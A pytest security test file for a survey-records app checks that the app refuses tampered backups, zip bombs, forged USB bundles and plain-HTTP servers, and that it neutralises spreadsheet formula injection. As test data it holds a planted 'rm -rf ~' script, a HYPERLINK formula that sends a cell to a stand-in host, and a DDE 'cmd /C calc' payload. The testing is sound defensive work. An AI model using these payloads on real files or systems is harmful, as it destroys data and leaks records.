"""The laptop's holes of issue 15, one test each, against real SQLCipher stores, real
files shaped as an attacker or a careless clerk would make them, the real `collector`
command and the real Qt program."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import socket
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest
from ui_support import drain_pool, make_session, make_store  # noqa: F401

from collector.cli import main
from collector.demo_data import SurveyRecords
from collector.storage.backup import make_backup
from collector.storage.store import STORE_FILE, Store

PASSWORD = "correct horse"


@pytest.fixture
def store_dir(tmp_path, survey_form):
    data_dir = tmp_path / "store"
    with Store.create(data_dir, PASSWORD) as store:
        store.save_many(survey_form, SurveyRecords(survey_form, seed=3).take(5), author="李明")
    return data_dir


@pytest.fixture
def cli(monkeypatch, capsys):
    """`collector …` as a user runs it: exit code, what it printed and what it wrote to stderr."""
    monkeypatch.setenv("COLLECTOR_PASSWORD", PASSWORD)

    def run(*argv: str) -> tuple[int, str, str]:
        code = main([str(a) for a in argv])
        out, err = capsys.readouterr()
        return code, out, err

    return run


def _members(backup: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(backup) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _repack(backup: Path, out: Path, members: dict[str, bytes], **extra_files: bytes) -> Path:
    """A backup as an attacker rewrites it: the manifest lists every file with its real
    checksum, so only the restore's own rules can refuse it."""
    manifest = json.loads(members.pop("manifest.json"))
    members.update(extra_files)
    manifest["files"] = {name: hashlib.sha256(data).hexdigest() for name, data in members.items()}
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        for name, data in members.items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out


# --- backups and restore ----------------------------------------------------------------


def test_restore_writes_only_the_files_a_backup_holds(store_dir, tmp_path, cli):
    made = make_backup(store_dir, PASSWORD, tmp_path / "b.zip")
    planted = _repack(
        made.path, tmp_path / "planted.zip", _members(made.path), **{"evil.sh": b"rm -rf ~\n"}
    )
    target = tmp_path / "target"
    code, _, err = cli("restore", "--from", planted, "--data-dir", target)
    assert code == 2
    assert "evil.sh" in err and "没有恢复任何数据" in err
    assert not (target / "evil.sh").exists()
    assert not (target / STORE_FILE).exists()


def test_a_backup_that_unpacks_far_beyond_its_size_is_refused_by_its_header(
    store_dir, tmp_path, cli
):
    made = make_backup(store_dir, PASSWORD, tmp_path / "b.zip")
    members = _members(made.path)
    zeros, size = bytes(1 << 20), 200 << 20
    digest = hashlib.sha256()
    for _ in range(size >> 20):
        digest.update(zeros)
    manifest = json.loads(members["manifest.json"])
    manifest["files"][STORE_FILE] = digest.hexdigest()
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        archive.writestr("keys.json", members["keys.json"])
        with archive.open(STORE_FILE, "w", force_zip64=True) as handle:
            for _ in range(size >> 20):
                handle.write(zeros)
    assert bomb.stat().st_size < 1 << 20
    target = tmp_path / "target"
    code, _, err = cli("--lang", "en", "restore", "--from", bomb, "--data-dir", target)
    assert code == 2
    assert "209.7 MB" in err and "over the limit of" in err and "nothing was restored" in err
    assert not target.exists() or sum(f.stat().st_size for f in target.rglob("*")) == 0


def test_a_restore_into_an_existing_folder_leaves_every_file_owner_only(store_dir, tmp_path, cli):
    made = make_backup(store_dir, PASSWORD, tmp_path / "b.zip")
    # A folder where a first run stopped after writing its key file, or where a store was
    # moved away: keys.json (0600) is there, the store is not.
    target = tmp_path / "target"
    target.mkdir(mode=0o700)
    (target / "keys.json").write_bytes((store_dir / "keys.json").read_bytes())
    (target / "keys.json").chmod(0o600)
    (store_dir / "ui.ini").write_text("[General]\nlanguage=en\n")
    made = make_backup(store_dir, PASSWORD, tmp_path / "c.zip")
    assert cli("restore", "--from", made.path, "--data-dir", target)[0] == 0
    modes = {f.name: stat.S_IMODE(f.stat().st_mode) for f in target.iterdir()}
    assert modes == {"keys.json": 0o600, STORE_FILE: 0o600, "ui.ini": 0o600}


# --- ledgers out ----------------------------------------------------------------------


def test_a_csv_ledger_opens_formulas_typed_into_records_as_text(tmp_path, survey_form, cli):
    data_dir = tmp_path / "store"
    typed = [
        '=HYPERLINK("http://x.example/?"&A2,"点此")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ]
    records = SurveyRecords(survey_form, seed=5).take(len(typed))
    with Store.create(data_dir, PASSWORD) as store:
        store.save_many(
            survey_form,
            [r | {"full_name": name} for r, name in zip(records, typed, strict=True)],
            author="李明",
        )
    out = tmp_path / "台账.csv"
    form = Path(__file__).resolve().parent.parent / "forms" / "outmigrant_labour.yaml"
    assert cli("export", "--data-dir", data_dir, "--form", form, out)[0] == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert {"'" + name for name in typed} <= set(cells)


# --- files from outside -----------------------------------------------------------------

FORM = Path(__file__).resolve().parent.parent / "forms" / "outmigrant_labour.yaml"
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>full_name</t></is></c>'
    b'<c r="B1" t="inlineStr"><is><t>id_number</t></is></c></row>'
)


def _workbook(path: Path, write_rows) -> Path:
    """A real .xlsx (made by openpyxl) whose sheet is replaced by one written row by row."""
    from conftest import write_xlsx

    write_xlsx(path.with_suffix(".seed.xlsx"), {"台账": [["full_name", "id_number"]]})
    with (
        zipfile.ZipFile(path.with_suffix(".seed.xlsx")) as seed,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book,
    ):
        for part in seed.infolist():
            if part.filename != "xl/worksheets/sheet1.xml":
                book.writestr(part, seed.read(part))
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(SHEET_HEAD)
            write_rows(sheet)
            sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.fixture(scope="module")
def cell_bomb(tmp_path_factory):
    def rows(sheet):
        sheet.write(b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
        block = b"A" * (1 << 20)
        for _ in range(400):
            sheet.write(block)
        sheet.write(b"</t></is></c></row>")

    return _workbook(tmp_path_factory.mktemp("bomb") / "一个格子.xlsx", rows)


@pytest.fixture(scope="module")
def million_rows(tmp_path_factory):
    def rows(sheet):
        for start in range(2, 1_500_002, 10_000):
            sheet.write(
                "".join(
                    f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>'
                    for n in range(start, start + 10_000)
                ).encode()
            )

    return _workbook(tmp_path_factory.mktemp("rows") / "150万行.xlsx", rows)


@pytest.mark.parametrize(
    ("workbook", "limit"),
    [("cell_bomb", "上限 100 × "), ("million_rows", "行数超过上限 200,000 行")],
)
@pytest.mark.parametrize("command", ["import", "records add", "validate"])
def test_a_workbook_beyond_its_bounds_is_refused_before_it_is_read(
    request, store_dir, cli, workbook, limit, command
):
    path = request.getfixturevalue(workbook)
    assert path.stat().st_size < 25 << 20
    argv = {
        "import": ["import", "--data-dir", store_dir, "--form", FORM, path, "--yes"],
        "records add": ["records", "add", "--data-dir", store_dir, "--form", FORM, path],
        "validate": ["validate", "--form", FORM, path],
    }[command]
    code, _, err = cli(*argv)
    assert code == 2
    assert path.name in err and limit in err and "没有读取任何内容" in err, err
    with Store.open(store_dir, PASSWORD) as store:
        assert store.count_by_status()["draft"] == 5


@pytest.mark.parametrize(
    ("workbook", "limit"),
    [("cell_bomb", "上限 100 × "), ("million_rows", "行数超过上限 200,000 行")],
)
def test_a_form_workbook_beyond_its_bounds_is_refused_before_it_is_read(
    request, cli, workbook, limit
):
    """Forms come from outside too (a county adapts one found on the web)."""
    path = request.getfixturevalue(workbook)
    code, out, err = cli("forms", "check", path)
    said = out + err
    assert code != 0
    assert path.name in said and limit in said, said


def test_a_csv_of_too_many_rows_is_refused_naming_the_limit(store_dir, tmp_path, cli):
    path = tmp_path / "台账.csv"
    path.write_text("姓名,身份证号\n" + "张三,1\n" * 200_001, encoding="utf-8")
    code, _, err = cli("import", "--data-dir", store_dir, "--form", FORM, path, "--yes")
    assert code == 2 and "行数超过上限 200,000 行" in err


# --- a full disk ------------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A real file system of 96 MB (tmpfs, mounted as root), not a simulated error:
    SQLite meets ENOSPC where it really does (WAL frames, the -shm file, a commit).
    SQLite's max_page_count would only stop the database file, never keys.json or a
    journal, and would miss how the program behaves on the disk it runs on."""
    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=96m,mode=0700", "tmpfs", str(disk)],
        capture_output=True,
        check=False,
    )
    if mounted.returncode != 0:
        pytest.skip(f"mounting a small tmpfs needs root: {mounted.stderr.decode().strip()}")
    yield disk
    subprocess.run(["umount", "-l", str(disk)], check=False)


def _fill(disk: Path, leave: int) -> Path:
    filler = disk / "filler"
    free = shutil.disk_usage(disk).free
    with open(filler, "wb") as handle:
        handle.truncate(0)
        handle.write(bytes(max(free - leave, 0)))
    return filler


def _count(data_dir: Path) -> tuple[int, int]:
    with Store.open(data_dir, PASSWORD) as store:
        rows = list(store.iter_records())
    return len(rows), len({r.data["id_number"] for r in rows})


def _twelve_thousand(tmp_path: Path, survey_form, cli, command: str) -> tuple[Path, list[str]]:
    """The file a clerk brings (outside the small disk) and the command's extra arguments."""
    records = SurveyRecords(survey_form, seed=11).take(12_000)
    if command == "records add":
        source = tmp_path / "records.jsonl"
        source.write_text(
            "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8"
        )
        return source, []
    # A township's ledger: the program's own CSV export of the same people.
    elsewhere = tmp_path / "elsewhere"
    with Store.create(elsewhere, PASSWORD) as store:
        store.save_all(survey_form, records, author="李明")
    source = tmp_path / "梅山镇台账.csv"
    assert cli("export", "--data-dir", elsewhere, "--form", FORM, source)[0] == 0
    return source, ["--yes", "--valid-only"]


@pytest.mark.parametrize("command", ["records add", "import"])
def test_an_import_on_a_full_disk_saves_all_or_nothing_and_says_so(
    small_disk, tmp_path, survey_form, cli, command
):
    data_dir = small_disk / "store"
    with Store.create(data_dir, PASSWORD) as store:
        store.save_many(survey_form, SurveyRecords(survey_form, seed=3).take(5), author="李明")
    source, extra = _twelve_thousand(tmp_path, survey_form, cli, command)
    argv = [*command.split(), "--data-dir", data_dir, "--form", FORM, source, *extra]
    filler = _fill(small_disk, 6 << 20)

    code, _, err = cli(*argv)
    assert code == 2
    assert "磁盘已满" in err and "Traceback" not in err and "sqlalchemy" not in err
    # What is stored is still there and readable on the full disk.
    code, out, err = cli("records", "list", "--data-dir", data_dir)
    assert (code, len(out.splitlines()), err) == (0, 5, "")
    assert _count(data_dir) == (5, 5)

    filler.unlink()
    assert cli(*argv)[0] == 0
    stored, distinct = _count(data_dir)
    if command == "records add":  # every line once, as the file has them
        assert stored == 12_005
    else:  # each person once: a ledger leaves out the rows whose ID number repeats
        assert stored == distinct > 11_900


# --- a damaged store --------------------------------------------------------------------


def _flip(data_dir: Path, offset: int) -> None:
    path = data_dir / STORE_FILE
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


COMMANDS = {
    "records list": ["records", "list", "--data-dir", "{d}"],
    "records add": ["records", "add", "--data-dir", "{d}", "--form", FORM, "{t}/r.jsonl"],
    "audit verify": ["audit", "verify", "--data-dir", "{d}"],
    "audit export": ["audit", "export", "--data-dir", "{d}", "--out", "{t}/audit.jsonl"],
    "passwd": ["passwd", "--data-dir", "{d}"],
    "backup": ["backup", "--data-dir", "{d}", "--out", "{t}/b.zip"],
    "export": ["export", "--data-dir", "{d}", "--form", FORM, "{t}/台账.xlsx"],
    "import": ["import", "--data-dir", "{d}", "--form", FORM, "{t}/台账.csv"],
    "report": ["report", "--data-dir", "{d}", "--form", FORM, "{t}/报告.xlsx"],
    "sync": ["sync", "--data-dir", "{d}", "--server", "https://127.0.0.1:9"],
    "bundle export": ["bundle", "export", "--data-dir", "{d}", "--out", "{t}/x.bundle"],
    "bundle import": ["bundle", "import", "--data-dir", "{d}", "{t}/x.bundle"],
}


@pytest.mark.parametrize("offset", [100, 5000], ids=["first page", "second page"])
@pytest.mark.parametrize("command", COMMANDS)
def test_a_store_with_one_flipped_byte_is_a_plain_message_from_every_command(
    store_dir, tmp_path, cli, monkeypatch, survey_form, offset, command
):
    record = SurveyRecords(survey_form, seed=9).take(1)[0]
    (tmp_path / "r.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n")
    (tmp_path / "台账.csv").write_text("姓名,身份证号\n张三,341524199001011234\n")
    (tmp_path / "x.bundle").write_bytes(b"COLLECTOR-BUNDLE" + bytes(100))
    monkeypatch.setenv("COLLECTOR_NEW_PASSWORD", "another horse")
    monkeypatch.setenv("COLLECTOR_BUNDLE_PASSWORD", "bundle horse")
    _flip(store_dir, offset)
    argv = [str(a).format(d=store_dir, t=tmp_path) for a in COMMANDS[command]]
    code, _, err = cli("--lang", "en", *argv)
    assert code == 2
    assert "is damaged" in err and "restore the latest backup" in err
    assert "Traceback" not in err and "SELECT" not in err


def _root_page(data_dir: Path, table: str) -> int:
    from sqlalchemy import text

    with Store.open(data_dir, PASSWORD) as store, store.reading() as conn:
        return conn.execute(
            text("SELECT rootpage FROM sqlite_master WHERE name = :t"), {"t": table}
        ).scalar_one()


@pytest.mark.parametrize("where", ["first page", "records table"])
def test_the_program_says_a_store_is_damaged_plainly(qtbot, tmp_path, survey_form, where):
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QApplication, QMessageBox

    from collector.ui.app import start

    data_dir = tmp_path / "data"
    make_store(data_dir, survey_form, count=300).close()
    page = 1 if where == "first page" else _root_page(data_dir, "records")
    _flip(data_dir, (page - 1) * 4096 + 100)
    window = start(data_dir)
    qtbot.addWidget(window)
    unlock = window.unlock_page
    qtbot.keyClicks(unlock.password, PASSWORD)
    qtbot.keyClick(unlock.password, Qt.Key.Key_Return)

    def said() -> str:
        boxes = [
            w.text()
            for w in QApplication.topLevelWidgets()
            if isinstance(w, QMessageBox) and w.isVisible()
        ]
        return "\n".join([unlock.message.text(), *boxes])

    qtbot.waitUntil(lambda: "已损坏" in said(), timeout=10_000)
    assert "备份恢复" in said()


# --- the county server's address --------------------------------------------------------


@pytest.fixture
def no_lookups(monkeypatch):
    """Host names the laptop looked up: none may be, for an address it must refuse (and no
    test reaches past this machine)."""
    looked_up: list[str] = []

    def refuse(host, *args, **kwargs):
        looked_up.append(host)
        raise socket.gaierror(socket.EAI_NONAME, "no lookups in this test")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return looked_up


def test_the_command_refuses_an_http_address_of_another_machine(store_dir, cli, no_lookups):
    code, _, err = cli(
        "sync", "--data-dir", store_dir, "--server", "http://rsj.example.gov.cn", "--user", "李明"
    )
    assert code == 2 and "明文" in err and "https://" in err
    assert no_lookups == []
    with Store.open(store_dir, PASSWORD) as store:
        assert store.setting("sync.server_url") is None


def test_the_command_warns_before_using_http_on_this_machine(store_dir, cli, monkeypatch):
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    monkeypatch.setenv("COLLECTOR_SERVER_PASSWORD", "server horse")
    code, _, err = cli(
        "sync", "--data-dir", store_dir, "--server", f"http://127.0.0.1:{port}", "--user", "李明"
    )
    warned, _, refused = err.partition("\n")
    assert "不加密" in warned and "本机" in warned
    assert code == 2 and "连不上县服务器" in refused


def test_settings_and_wizard_refuse_http_to_another_machine(
    qtbot,
    tmp_path,
    survey_form,
    no_lookups,
    drain_pool,  # noqa: F811
):
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QWizard

    from collector.storage.settings import SERVER_URL
    from collector.ui.main_window import MainWindow
    from collector.ui.wizard import ONLINE, SetupWizard

    data_dir = tmp_path / "data"
    store = make_store(data_dir, survey_form)
    window = MainWindow(make_session(data_dir, survey_form, store))
    qtbot.addWidget(window)
    window.show()
    window.show_page("settings")
    settings = window.settings
    settings.server.clear()
    qtbot.keyClicks(settings.server, "http://rsj.example.gov.cn")
    qtbot.keyClick(settings.server, Qt.Key.Key_Return)
    assert "明文" in settings.address.note.text()
    qtbot.mouseClick(settings.save_button, Qt.MouseButton.LeftButton)
    assert store.setting(SERVER_URL) is None

    settings.server.clear()
    qtbot.keyClicks(settings.server, "http://localhost:8000")
    qtbot.keyClick(settings.server, Qt.Key.Key_Return)
    assert "不加密" in settings.address.note.text()
    qtbot.mouseClick(settings.save_button, Qt.MouseButton.LeftButton)
    assert store.setting(SERVER_URL) == "http://localhost:8000"
    window.close()

    fresh = tmp_path / "new"
    wizard = SetupWizard(make_session(fresh, survey_form, None))
    qtbot.addWidget(wizard)
    wizard.show()
    wizard.page(0).choices.button(ONLINE).setChecked(True)
    wizard.next()
    page = wizard.online
    for field, text in (
        (page.server, "http://rsj.example.gov.cn"),
        (page.account, "liming"),
        (page.server_password, "server horse"),
        (page.password, "local password"),
        (page.repeat, "local password"),
    ):
        qtbot.keyClicks(field, text)
    qtbot.mouseClick(wizard.button(QWizard.WizardButton.FinishButton), Qt.MouseButton.LeftButton)
    qtbot.wait(200)
    assert "明文" in page.message.text()
    assert wizard.currentPage() is page and not fresh.joinpath(STORE_FILE).exists()
    assert no_lookups == []


# --- USB bundles ------------------------------------------------------------------------

BUNDLE_PASSWORD = "shared usb password"


def _seal(path: Path, revisions: list, password: str = BUNDLE_PASSWORD) -> Path:
    """A bundle as anyone who knows the shared password can write one: the documented
    format (magic, format byte, salt, nonce; AES-GCM over gzip'd JSON)."""
    import gzip
    import os

    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    from collector.sync import bundle
    from collector.sync.bundle import Contents

    contents = Contents(made_at="2026-01-01", made_by="李明", forms=[], revisions=revisions)
    salt, nonce = os.urandom(bundle.SALT), os.urandom(bundle.NONCE)
    header = bundle.MAGIC + bytes([bundle.FORMAT]) + salt + nonce
    sealed = AESGCM(bundle._key(password, salt)).encrypt(
        nonce, gzip.compress(contents.model_dump_json().encode()), header
    )
    path.write_bytes(header + sealed)
    return path


@pytest.fixture
def township_laptop(tmp_path, survey_form):
    """A township laptop holding one draft of a village in its township."""
    from collector.storage import replica
    from collector.storage.settings import USER_DIVISION
    from collector.workflow import Role

    data_dir = tmp_path / "township"
    person = SurveyRecords(survey_form, seed=21).take(1)[0]
    with make_store(data_dir, survey_form, role=Role.TOWNSHIP) as store:
        store.set_setting(USER_DIVISION, person["village"][:9])
        saved = store.save(survey_form, person, author="李明")
        [draft] = replica.unsent(store)
    return data_dir, saved.record_id, draft


def _revised(draft, parent, **change):
    from collector.revisions import revision_content, revision_id

    rev = draft.model_copy(update={"parent": parent, **change})
    content = revision_content(rev.record_id, rev.data, rev.status.value, rev.deleted, rev.reason)
    return rev.model_copy(update={"revision": revision_id(parent, content)})


def _accepted_with_a_new_name(draft):
    from collector.workflow import Status

    return [
        _revised(
            draft,
            draft.revision,
            status=Status.ACCEPTED,
            data=draft.data | {"full_name": "冒名顶替"},
        )
    ]


def _id_not_its_content(draft):
    honest = _revised(draft, draft.revision, data=draft.data | {"phone": "13800000000"})
    return [honest.model_copy(update={"data": draft.data | {"full_name": "冒名顶替"}})]


def _another_township(draft):
    from collector.revisions import revision_content, revision_id

    village = "341524999201"
    data = draft.data | {"village": village, "township": village[:9], "full_name": "冒名顶替"}
    rev = draft.model_copy(update={"record_id": "f" * 8 + draft.record_id[8:], "village": village})
    rev = rev.model_copy(update={"data": data, "parent": None})
    content = revision_content(rev.record_id, data, "draft", False, "")
    return [rev.model_copy(update={"revision": revision_id(None, content)})]


@pytest.mark.parametrize(
    ("forge", "said"),
    [
        (_accepted_with_a_new_name, "不能"),
        (_id_not_its_content, "修订编号与内容不符"),
        (_another_township, "不在本账号的辖区"),
    ],
)
def test_a_forged_bundle_is_refused_whole_and_changes_nothing(
    township_laptop, tmp_path, cli, monkeypatch, forge, said
):
    data_dir, record_id, draft = township_laptop
    forged = _seal(tmp_path / "u盘.bundle", forge(draft))
    monkeypatch.setenv("COLLECTOR_BUNDLE_PASSWORD", BUNDLE_PASSWORD)
    code, _, err = cli("bundle", "import", "--data-dir", data_dir, forged)
    assert code == 2
    assert said in err and "整个数据包都没有导入" in err
    with Store.open(data_dir, PASSWORD) as store:
        [only] = store.page()
        assert (only.id, only.status, only.full_name) == (
            record_id,
            "draft",
            draft.data["full_name"],
        )


def test_a_bundle_beyond_its_bound_is_refused_before_it_is_read(
    store_dir, tmp_path, cli, monkeypatch
):
    monkeypatch.setenv("COLLECTOR_BUNDLE_PASSWORD", BUNDLE_PASSWORD)
    huge = tmp_path / "u盘.bundle"
    with open(huge, "wb") as handle:  # sparse: 201 MB on its label, nothing on the disk
        handle.write(b"COLLECTOR-BUNDLE")
        handle.truncate(201 << 20)
    code, _, err = cli("bundle", "import", "--data-dir", store_dir, huge)
    assert code == 2 and "u盘.bundle" in err and "上限 209.7 MB" in err
